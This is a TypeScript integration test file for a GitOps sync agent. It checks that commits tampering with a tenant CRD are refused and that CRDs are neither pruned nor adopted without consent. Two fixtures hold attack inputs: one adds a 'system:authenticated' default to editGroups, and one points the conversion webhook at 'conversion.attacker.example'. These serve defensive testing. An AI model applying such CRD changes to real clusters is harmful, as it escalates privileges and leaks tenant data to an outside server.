// CRDs are cluster infrastructure, not tenant content (issue 23, attacks 1 and 2), replayed on a
// real API server with the shipped deploy/agent RBAC (the agent impersonates driftgate-sync) and
// the shipped scope: a commit that widens the TenantOnboarding CRD (a default on editGroups, the
// conversion webhook pointed elsewhere) is refused whole with a failing commit status; deleting
// the CRD file or moving it out of the synced path leaves the CRD and every tenant and namespace
// in place; a CRD that exists live and was not created by the sync is never adopted on the
// revision's say-so.
//
// Each test syncs its own copy of the shipped TenantOnboarding CRD, identical but for its group
// (`<suffix>.platform.example.com`), so that a regression (a pruned or rewritten CRD) cannot take
// the shared TenantOnboarding CRD, and every other test's tenants, down with it. The shipped RBAC
// names the TenantOnboarding CRD and group; for the copy, the same rules are granted with its
// name and group swapped in (aggregated into driftgate-sync exactly as the shipped ones are).
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { AgentSettings } from '../../../src/agent/agent.js';
import { SYNC_LABEL } from '../../../src/core/drift/ownership.js';
import { loadManifests, type KubeObject } from '../../../src/core/manifest/manifest.js';
import { parseYaml } from '../../../src/core/yaml/parse.js';
import { applyObject } from '../../../src/io/kube/apply.js';
import { Discovery } from '../../../src/io/kube/discovery.js';
import { isNotFound } from '../../../src/io/kube/errors.js';
import { deleteNamespace, eventually, randomSuffix } from '../../support/cluster.js';
import { REPO_ROOT } from '../../support/control-plane.js';
import { startFakeGitHub, type FakeGitHub } from '../../support/fake-github/server.js';
import { configMapYaml, createAgentHarness, crdText, policyPackFiles, tenantYaml, type AgentHarness } from './harness.js';

const SYNC_SA = { namespace: 'driftgate-system', name: 'driftgate-sync' };
const CRD_PATH = 'cluster/crds/tenantonboardings.yaml';

let h: AgentHarness | undefined;
let github: FakeGitHub | undefined;
const cleanups: (() => Promise<unknown>)[] = [];

afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c().catch(() => undefined);
  await h?.close();
  await github?.close();
  h = undefined;
  github = undefined;
});

function shippedObjects(file: string): KubeObject[] {
  const text = readFileSync(path.join(REPO_ROOT, 'deploy/agent', file), 'utf8');
  return loadManifests(parseYaml(text, { file }).documents).manifests.map((m) => m.object);
}

/** This test's copy of the shipped TenantOnboarding CRD: the same text but for its group. */
interface CrdCopy {
  readonly group: string;
  readonly name: string;
  readonly text: string;
  /** The tenant namespaces' prefix (in the scope). */
  readonly tenantPrefix: string;
}

function crdCopy(): CrdCopy {
  const sfx = randomSuffix(6);
  const group = `g${sfx}.platform.example.com`;
  return { group, name: `tenantonboardings.${group}`, text: crdText().replaceAll('platform.example.com', group), tenantPrefix: `t-${sfx}` };
}

/** Attack 1: `default: ["system:authenticated"]` on v1 spec.access.editGroups. */
function withEditGroupsDefault(text: string): string {
  const v1 = text.indexOf('\n    - name: v1\n');
  const at = text.indexOf('editGroups:\n                      type: array\n', v1);
  expect(v1).toBeGreaterThan(0);
  expect(at).toBeGreaterThan(v1);
  const end = at + 'editGroups:\n                      type: array\n'.length;
  return `${text.slice(0, end)}                      default: ["system:authenticated"]\n${text.slice(end)}`;
}

/** Attack 1b: every conversion sent to another server. */
function withConversionElsewhere(text: string): string {
  const service = ['        service:', '          namespace: driftgate-system', '          name: driftgate-operator-webhook', '          path: /convert', '          port: 443', ''].join('\n');
  expect(text).toContain(service);
  return text.replace(service, '        url: https://conversion.attacker.example/convert\n');
}

function tenant(copy: CrdCopy, name: string, namespace: string): string {
  return tenantYaml({ name, namespace, tenantNamespace: `${copy.tenantPrefix}-${name}` }).replace('apiVersion: platform.example.com/v1', `apiVersion: ${copy.group}/v1`);
}

async function subjectAllowed(harness: AgentHarness, attributes: Record<string, string>): Promise<boolean> {
  const review = await harness.client.request<{ status?: { allowed?: boolean } }>({
    method: 'POST',
    path: '/apis/authorization.k8s.io/v1/subjectaccessreviews',
    body: {
      apiVersion: 'authorization.k8s.io/v1',
      kind: 'SubjectAccessReview',
      spec: { user: `system:serviceaccount:${SYNC_SA.namespace}:${SYNC_SA.name}`, groups: ['system:serviceaccounts', `system:serviceaccounts:${SYNC_SA.namespace}`, 'system:authenticated'], resourceAttributes: attributes },
    },
  });
  return review.status?.allowed === true;
}

/**
 * The shipped deploy/agent RBAC (sync service account, ClusterRoles and their aggregation), the
 * same rules for this test's CRD copy, driftgate-sync-namespaced bound in the test namespace,
 * and the shipped scope with its `tenants` namespace replaced by the test's.
 */
async function shippedGuards(harness: AgentHarness, copy: CrdCopy): Promise<{ scope: { kind: 'file'; path: string; text: string } }> {
  const resolver = new Discovery({ client: harness.client });
  const apply = (o: KubeObject) => applyObject({ client: harness.client, resolver }, o, { fieldManager: 'driftgate-tests', force: true });
  const shipped = [...shippedObjects('namespace.yaml'), ...shippedObjects('sync-serviceaccount.yaml'), ...shippedObjects('sync-rbac.yaml')];
  for (const o of shipped) await apply(o);
  const swap = (o: KubeObject, name: string): KubeObject => {
    const text = JSON.stringify(o).replaceAll('tenantonboardings.platform.example.com', copy.name).replaceAll('"platform.example.com"', JSON.stringify(copy.group));
    const swapped = JSON.parse(text) as KubeObject;
    return { ...swapped, metadata: { ...swapped.metadata, name } };
  };
  const clusterRole = shipped.find((o) => o.kind === 'ClusterRole' && o.metadata.name === 'driftgate-sync-cluster');
  const namespacedRole = shipped.find((o) => o.kind === 'ClusterRole' && o.metadata.name === 'driftgate-sync-namespaced');
  expect(clusterRole && namespacedRole).toBeTruthy();
  const copyClusterRole = swap(clusterRole!, `driftgate-sync-cluster-${copy.tenantPrefix}`);
  const copyNamespacedRole = swap(namespacedRole!, `driftgate-sync-namespaced-${copy.tenantPrefix}`);
  await apply(copyClusterRole);
  await apply(copyNamespacedRole);
  cleanups.push(() => harness.client.request({ method: 'DELETE', path: `/apis/rbac.authorization.k8s.io/v1/clusterroles/${copyClusterRole.metadata.name}` }));
  cleanups.push(() => harness.client.request({ method: 'DELETE', path: `/apis/rbac.authorization.k8s.io/v1/clusterroles/${copyNamespacedRole.metadata.name}` }));
  for (const role of ['driftgate-sync-namespaced', copyNamespacedRole.metadata.name ?? '']) {
    await apply({
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'RoleBinding',
      metadata: { name: role, namespace: harness.namespace },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
      subjects: [{ kind: 'ServiceAccount', ...SYNC_SA }],
    } as KubeObject);
  }
  // aggregated ClusterRoles are filled by the controller-manager
  await eventually(async () => expect(await subjectAllowed(harness, { verb: 'patch', group: 'apiextensions.k8s.io', resource: 'customresourcedefinitions', name: copy.name })).toBe(true), { timeoutMs: 30_000 });
  expect(await subjectAllowed(harness, { verb: 'patch', group: 'apiextensions.k8s.io', resource: 'customresourcedefinitions', name: 'other.example.com' })).toBe(false);

  const configMap = shippedObjects('scope-configmap.yaml')[0] as KubeObject & { data: Record<string, string> };
  const shippedScope = configMap.data['scope.yaml'] ?? '';
  expect(shippedScope).toContain('namespaces: [tenants]');
  return { scope: { kind: 'file', path: 'scope.yaml', text: shippedScope.replace('namespaces: [tenants]', `namespaces: [${harness.namespace}, "${copy.tenantPrefix}-*"]`) } };
}

interface Live {
  metadata: { uid: string; generation?: number; labels?: Record<string, string>; deletionTimestamp?: string };
  spec?: Record<string, unknown>;
}

async function read(harness: AgentHarness, pathname: string): Promise<Live | undefined> {
  try {
    return (await harness.get(pathname)) as Live;
  } catch (error) {
    if (isNotFound(error)) return undefined;
    throw error;
  }
}

const crdPath = (copy: CrdCopy): string => `/apis/apiextensions.k8s.io/v1/customresourcedefinitions/${copy.name}`;
const tenantPath = (copy: CrdCopy, namespace: string, name: string): string => `/apis/${copy.group}/v1/namespaces/${namespace}/tenantonboardings/${name}`;

/** Another team's tenant, created outside this sync, and its namespace as the operator makes it. */
async function otherTeamTenant(harness: AgentHarness, copy: CrdCopy, teamNamespace: string): Promise<void> {
  await harness.client.request({ method: 'POST', path: '/api/v1/namespaces', body: { apiVersion: 'v1', kind: 'Namespace', metadata: { name: teamNamespace } } });
  cleanups.push(() => deleteNamespace(harness.kc, teamNamespace));
  const object = loadManifests(parseYaml(tenant(copy, 'theirs', teamNamespace), { file: 'theirs.yaml' }).documents).manifests[0]!.object;
  await harness.client.request({ method: 'POST', path: `/apis/${copy.group}/v1/namespaces/${teamNamespace}/tenantonboardings`, body: object });
}

async function tenantNamespace(harness: AgentHarness, name: string, owner: string): Promise<void> {
  await harness.client.request({
    method: 'POST',
    path: '/api/v1/namespaces',
    body: { apiVersion: 'v1', kind: 'Namespace', metadata: { name, labels: { 'app.kubernetes.io/managed-by': 'driftgate-operator' }, annotations: { 'platform.example.com/owner': owner } } },
  });
  cleanups.push(() => deleteNamespace(harness.kc, name));
}

interface Fixture {
  readonly harness: AgentHarness;
  readonly copy: CrdCopy;
  readonly github: FakeGitHub;
  /** Restarts the agent with the shipped guards and these settings (restart does not accumulate overrides). */
  restart(settings?: Partial<AgentSettings>): Promise<unknown>;
}

async function withCrdCopy(): Promise<Fixture> {
  github = await startFakeGitHub();
  h = await createAgentHarness({ github });
  const harness = h;
  const copy = crdCopy();
  cleanups.push(() => harness.client.request({ method: 'DELETE', path: crdPath(copy) }));
  const { scope } = await shippedGuards(harness, copy);
  const restart = (settings: Partial<AgentSettings> = {}) => harness.restart({ serviceAccount: SYNC_SA, scope, ...settings });
  await restart();
  expect(harness.agent.writeClient.impersonating).toBe(`system:serviceaccount:${SYNC_SA.namespace}:${SYNC_SA.name}`);
  return { harness, copy, github, restart };
}

function errors(harness: AgentHarness): string[] {
  return harness.agent.lastSync!.findings.filter((f) => f.severity === 'error').map((f) => `${f.ruleId} ${f.file}:${f.line}`);
}

async function commitStatus(harness: AgentHarness, gh: FakeGitHub, sha: string): Promise<string | undefined> {
  await harness.agent.reporter.idle();
  return gh.statuses.find((s) => s.sha === sha && s.context === 'driftgate/sync')?.state;
}

describe('CRDs are cluster infrastructure (shipped RBAC and scope)', () => {
  it('refuses a commit that adds a default to editGroups or points the conversion webhook elsewhere: nothing applied, the CRD unchanged', async () => {
    const { harness, copy, github: gh } = await withCrdCopy();
    const ns = harness.namespace;
    const created = harness.fx.commit({ ...policyPackFiles(), [CRD_PATH]: copy.text, 'cluster/tenants/mine.yaml': tenant(copy, 'mine', ns), 'cluster/app.yaml': configMapYaml('app', ns, { v: '1' }) });
    await harness.poll();
    expect(harness.agent.lastSync, JSON.stringify(harness.agent.lastSync?.findings.filter((f) => f.severity === 'error'))).toMatchObject({ revision: created, outcome: 'applied' });
    expect((await harness.agent.inventory.read())?.entries.find((e) => e.kind === 'CustomResourceDefinition')).toMatchObject({ name: copy.name, uid: expect.any(String) });
    await otherTeamTenant(harness, copy, `${copy.tenantPrefix}-team`);
    const before = (await read(harness, crdPath(copy)))!;

    // attack 1: every tenant of every team would read editGroups: [system:authenticated]
    const defaulted = harness.fx.commit({ [CRD_PATH]: withEditGroupsDefault(copy.text), 'cluster/app.yaml': configMapYaml('app', ns, { v: '2' }) });
    await harness.poll();
    expect(harness.agent.lastSync).toMatchObject({ revision: defaulted, outcome: 'refused', reason: 'CrdGateFailed' });
    expect(errors(harness)).toEqual([expect.stringMatching(new RegExp(`^crd-compat/default-changed ${CRD_PATH}:\\d+$`))]);
    expect(await commitStatus(harness, gh, defaulted)).toBe('failure');

    // attack 1b: every conversion of every object sent to another server
    const converted = harness.fx.commit({ [CRD_PATH]: withConversionElsewhere(copy.text) });
    await harness.poll();
    expect(harness.agent.lastSync).toMatchObject({ revision: converted, outcome: 'refused', reason: 'CrdGateFailed' });
    expect(errors(harness)).toEqual([expect.stringMatching(new RegExp(`^crd-compat/conversion-changed ${CRD_PATH}:\\d+$`))]);
    expect(await commitStatus(harness, gh, converted)).toBe('failure');

    // nothing of either commit was applied; the CRD is the one created, unchanged
    const after = (await read(harness, crdPath(copy)))!;
    expect(after.metadata.uid).toBe(before.metadata.uid);
    expect(after.metadata.generation).toBe(before.metadata.generation);
    expect(JSON.stringify(after.spec)).not.toContain('system:authenticated');
    expect(JSON.stringify(after.spec)).not.toContain('attacker');
    expect((await read(harness, `/api/v1/namespaces/${ns}/configmaps/app`)) as unknown).toMatchObject({ data: { v: '1' } });
    for (const [namespace, name] of [[ns, 'mine'], [`${copy.tenantPrefix}-team`, 'theirs']] as const) {
      const t = (await read(harness, tenantPath(copy, namespace, name))) as (Live & { spec: { access: Record<string, unknown> } }) | undefined;
      expect(t?.spec.access.editGroups, `${namespace}/${name}`).toBeUndefined();
    }
  });

  it('keeps the CRD, every tenant and every namespace when the CRD file is deleted or moved out of the path; --prune-crds deletes it only with the last object of its kind', async () => {
    const { harness, copy, github: gh, restart } = await withCrdCopy();
    const ns = harness.namespace;
    const first = harness.fx.commit({ ...policyPackFiles(), [CRD_PATH]: copy.text, 'cluster/tenants/mine.yaml': tenant(copy, 'mine', ns), 'cluster/app.yaml': configMapYaml('app', ns, { v: '1' }) });
    await harness.poll();
    expect(harness.agent.lastSync).toMatchObject({ revision: first, outcome: 'applied' });
    const team = `${copy.tenantPrefix}-team`;
    await otherTeamTenant(harness, copy, team);
    await tenantNamespace(harness, `${copy.tenantPrefix}-mine`, `${ns}/mine`);
    await tenantNamespace(harness, `${copy.tenantPrefix}-theirs`, `${team}/theirs`);
    const crdUid = (await read(harness, crdPath(copy)))!.metadata.uid;
    const tenantUids = [(await read(harness, tenantPath(copy, ns, 'mine')))!.metadata.uid, (await read(harness, tenantPath(copy, team, 'theirs')))!.metadata.uid];

    const intact = async (when: string): Promise<void> => {
      const crd = await read(harness, crdPath(copy));
      expect(crd?.metadata.uid, `${when}: the CRD`).toBe(crdUid);
      expect(crd?.metadata.deletionTimestamp, `${when}: the CRD`).toBeUndefined();
      const tenants = [await read(harness, tenantPath(copy, ns, 'mine')), await read(harness, tenantPath(copy, team, 'theirs'))];
      expect(tenants.map((t) => t?.metadata.uid), `${when}: the tenants`).toEqual(tenantUids);
      for (const name of [team, `${copy.tenantPrefix}-mine`, `${copy.tenantPrefix}-theirs`]) {
        const namespace = await read(harness, `/api/v1/namespaces/${name}`);
        expect(namespace?.metadata.deletionTimestamp, `${when}: namespace ${name}`).toBeUndefined();
        expect(namespace, `${when}: namespace ${name}`).toBeDefined();
      }
    };
    const keptCrd = (verdict: string) => expect.objectContaining({ key: expect.objectContaining({ kind: 'CustomResourceDefinition', name: copy.name }), outcome: 'skipped', verdict });

    // the CRD file deleted: kept (CRDs are pruned only with --prune-crds), and said so
    const deleted = harness.fx.commit({ [CRD_PATH]: null, 'cluster/app.yaml': configMapYaml('app', ns, { v: '2' }) });
    await harness.poll();
    const afterDelete = harness.agent.lastSync!;
    expect(afterDelete.revision).toBe(deleted);
    if (afterDelete.outcome === 'applied') {
      expect(afterDelete.pruned).toEqual([keptCrd('crd-prune-disabled')]);
      await harness.agent.reporter.idle();
      expect(gh.checkRuns.find((r) => r.head_sha === deleted)?.output.summary).toContain(`CustomResourceDefinition ${copy.name}`);
      expect(gh.checkRuns.find((r) => r.head_sha === deleted)?.output.summary).toContain('crd-prune-disabled: kept');
      // still this sync's: the inventory keeps it
      expect((await harness.agent.inventory.read())?.entries.find((e) => e.kind === 'CustomResourceDefinition')).toMatchObject({ name: copy.name, uid: crdUid });
    } else {
      // the gate judging the removed CRD against the live one refuses it: as safe
      expect(afterDelete.outcome).toBe('refused');
    }
    await intact('CRD file deleted');

    // back, then `git mv` out of the synced path
    const restored = harness.fx.commit({ [CRD_PATH]: copy.text });
    await harness.poll();
    expect(harness.agent.lastSync).toMatchObject({ revision: restored, outcome: 'applied' });
    const moved = harness.fx.commit({ [CRD_PATH]: null, 'vendor/crds/tenantonboardings.yaml': copy.text });
    await harness.poll();
    expect(harness.agent.lastSync?.revision).toBe(moved);
    if (harness.agent.lastSync?.outcome === 'applied') expect(harness.agent.lastSync.pruned).toEqual([keptCrd('crd-prune-disabled')]);
    await intact('CRD file moved out of the path');

    // with --prune-crds, a CRD is still kept while objects of its kind exist that this sync does not own
    await restart({ pruneCrds: true });
    const next = harness.fx.commit({ 'cluster/app.yaml': configMapYaml('app', ns, { v: '3' }) });
    await harness.poll();
    const pruning = harness.agent.lastSync!;
    expect(pruning.revision).toBe(next);
    if (pruning.outcome === 'applied') {
      expect(pruning.pruned).toEqual([keptCrd('holds-foreign-objects')]);
      expect(pruning.pruned[0]?.message).toContain(`TenantOnboarding ${team}/theirs`);
    } else {
      expect(pruning.outcome).toBe('refused');
    }
    await intact('--prune-crds with another team’s tenant');

    // another team's tenant gone, but this sync's own still in Git: deleting the CRD would delete it too
    await harness.client.request({ method: 'DELETE', path: tenantPath(copy, team, 'theirs') });
    await eventually(async () => expect(await read(harness, tenantPath(copy, team, 'theirs'))).toBeUndefined());
    const stillWanted = harness.fx.commit({ 'cluster/app.yaml': configMapYaml('app', ns, { v: '4' }) });
    await harness.poll();
    expect(harness.agent.lastSync?.revision).toBe(stillWanted);
    if (harness.agent.lastSync?.outcome === 'applied') {
      expect(harness.agent.lastSync.pruned).toEqual([keptCrd('holds-foreign-objects')]);
      expect(harness.agent.lastSync.pruned[0]?.message).toContain(`TenantOnboarding ${ns}/mine`);
    }
    expect((await read(harness, crdPath(copy)))?.metadata.uid).toBe(crdUid);
    expect((await read(harness, tenantPath(copy, ns, 'mine')))?.metadata.uid).toBe(tenantUids[0]);

    // the tenant leaves Git too: prune deletes it, then the CRD, whose kind holds nothing else
    const last = harness.fx.commit({ 'cluster/tenants/mine.yaml': null });
    await harness.poll();
    const pruned = harness.agent.lastSync!;
    expect(pruned.revision).toBe(last);
    if (pruned.outcome === 'applied') {
      expect(pruned.pruned.map((p) => `${p.key.kind} ${p.key.name} ${p.outcome}`)).toEqual([`TenantOnboarding mine deleted`, `CustomResourceDefinition ${copy.name} deleted`]);
      await eventually(async () => expect(await read(harness, crdPath(copy))).toBeUndefined(), { timeoutMs: 30_000 });
    } else {
      expect(pruned.outcome).toBe('refused');
    }
  });

  it('never adopts a CRD it did not create on the revision’s say-so; the agent’s --adopt-crd consents', async () => {
    const { harness, copy, github: gh, restart } = await withCrdCopy();
    const ns = harness.namespace;
    // the platform team installed the CRD: it exists live, and this sync did not create it
    await harness.client.request({ method: 'POST', path: '/apis/apiextensions.k8s.io/v1/customresourcedefinitions', body: loadManifests(parseYaml(copy.text, { file: 'crd.yaml' }).documents).manifests[0]!.object });
    const before = await eventually(async () => {
      const crd = await read(harness, crdPath(copy));
      expect(crd).toBeDefined();
      return crd!;
    });
    const asking = copy.text.replace(`  name: ${copy.name}\n`, `  name: ${copy.name}\n  annotations:\n    driftgate.dev/adopt: "true"\n`);
    expect(asking).not.toBe(copy.text);
    const takeover = harness.fx.commit({ ...policyPackFiles(), [CRD_PATH]: asking, 'cluster/app.yaml': configMapYaml('app', ns, { v: '1' }) });
    await harness.poll();
    expect(harness.agent.lastSync).toMatchObject({ revision: takeover, outcome: 'refused', reason: 'AdoptionRefused' });
    const nameLine = asking.split('\n').indexOf(`  name: ${copy.name}`) + 1;
    expect(errors(harness)).toEqual([`sync/crd-adopt-forbidden ${CRD_PATH}:${nameLine}`]);
    expect(await commitStatus(harness, gh, takeover)).toBe('failure');
    const after = (await read(harness, crdPath(copy)))!;
    expect(after.metadata.labels?.[SYNC_LABEL]).toBeUndefined();
    expect(after.metadata.generation).toBe(before.metadata.generation);
    expect(await read(harness, `/api/v1/namespaces/${ns}/configmaps/app`)).toBeUndefined(); // refused whole

    // trusted consent (an agent flag, never the revision) lets this sync manage it from now on
    await restart({ adoptCrds: [copy.name] });
    const consented = harness.fx.commit({ 'cluster/app.yaml': configMapYaml('app', ns, { v: '2' }) });
    await harness.poll();
    expect(harness.agent.lastSync).toMatchObject({ revision: consented, outcome: 'applied' });
    expect((await read(harness, crdPath(copy)))?.metadata.labels?.[SYNC_LABEL]).toBe(harness.agent.sync);
    expect((await harness.agent.inventory.read())?.entries.find((e) => e.kind === 'CustomResourceDefinition')).toMatchObject({ name: copy.name, uid: before.metadata.uid });
  });
});
